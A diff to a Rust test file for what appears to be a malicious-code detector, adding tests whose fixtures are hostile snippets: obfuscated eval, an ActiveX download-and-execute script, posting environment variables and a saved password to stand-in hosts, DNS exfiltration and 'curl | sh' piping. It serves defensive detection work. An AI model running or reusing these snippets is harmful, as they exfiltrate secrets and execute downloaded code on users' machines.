@@ -743,6 +743,9 @@ fn a_part_of_a_text_has_nothing_of_its_bounds() {
     let hidden = "const whole = unlock(Buffer.from('kJGSk5SVlpeYmZqb', 'base64')); eval(whole.slice(4, end()))";
     let outcome = outcome(Language::JavaScript, hidden);
     assert!(event(&outcome, Act::Eval).of.any(Labels::DECODED), "{:?}", outcome.events);
+}
+
+#[test]
 fn what_hidden_code_yields_and_does_was_hidden_with_it() {
     let yields =
         python("import base64, requests\nrequests.get(eval(base64.b64decode(b'Imh0dHBzOi8vaC5pbnZhbGlkL3gi')))");
@@ -762,4 +765,61 @@ fn objects_of_the_script_host_are_what_their_names_say() {
                   var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Write(x.responseBody); s.SaveToFile('%TEMP%\\\\a.exe', 2);\n\
                   new ActiveXObject('Shell.Application').ShellExecute('%TEMP%\\\\a.exe', '', '', 'open', 0);";
     assert!(rules(Language::JavaScript, script).contains(&"flow-download-run"));
+}
+
+#[test]
+fn what_a_person_agrees_to_does_not_run_by_itself() {
+    let report = |asks: &str, around: &str| {
+        let code = format!(
+            "import os, requests\nlines = [k + '=' + v for k, v in os.environ.items()]\n{asks}\n{around}requests.post('https://paste.invalid/new', '\\n'.join(lines))\n"
+        );
+        let outcome = python(&code);
+        let flows = flows::judge(&outcome, false);
+        let sent = flows.iter().find(|f| f.rule.id == "flow-environment-sent").unwrap_or_else(|| panic!("{code}"));
+        sent.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
+    };
+    assert!(report("", ""));
+    assert!(!report("reply = input('Send the report? (Y/n) ')", "if reply.lower() in ('', 'y'): "));
+    // An answer that decides nothing, and one that is asked for something else.
+    assert!(report("reply = input('Your name? ')", ""));
+    assert!(report("reply = input('Your name? ')\nif reply: print(reply)", ""));
+}
+
+#[test]
+fn names_of_the_own_network_stay_in_it() {
+    let lookup = |name: &str| {
+        let code = format!("import socket\nsocket.gethostbyname(socket.gethostname() + '{name}')\n");
+        rules(Language::Python, &code).contains(&"flow-dns-exfiltration")
+    };
+    assert!(lookup(".x.collect.invalid"));
+    assert!(!lookup(".local") && !lookup(".home.arpa"));
+}
+
+#[test]
+fn a_page_signs_in_where_it_came_from() {
+    let sends = |address: &str| {
+        let code = format!(
+            "const saved = localStorage.getItem('password');\nasync function go(t, p) {{ await fetch({address}, {{method: 'POST', body: p}}); }}\ngo(window.base, saved);\n"
+        );
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        flows.iter().any(|f| {
+            f.rule.id == "flow-stores-sent"
+                && f.finding(crate::model::Evidence::note("")).severity > crate::model::Severity::Medium
+        })
+    };
+    assert!(sends("'https://collect.invalid/x'"));
+    assert!(!sends("`${t}/admin/version`"));
+}
+
+#[test]
+fn unpacking_starts_nothing() {
+    let started = |command: &str| {
+        let code = format!(
+            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
+    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
 }
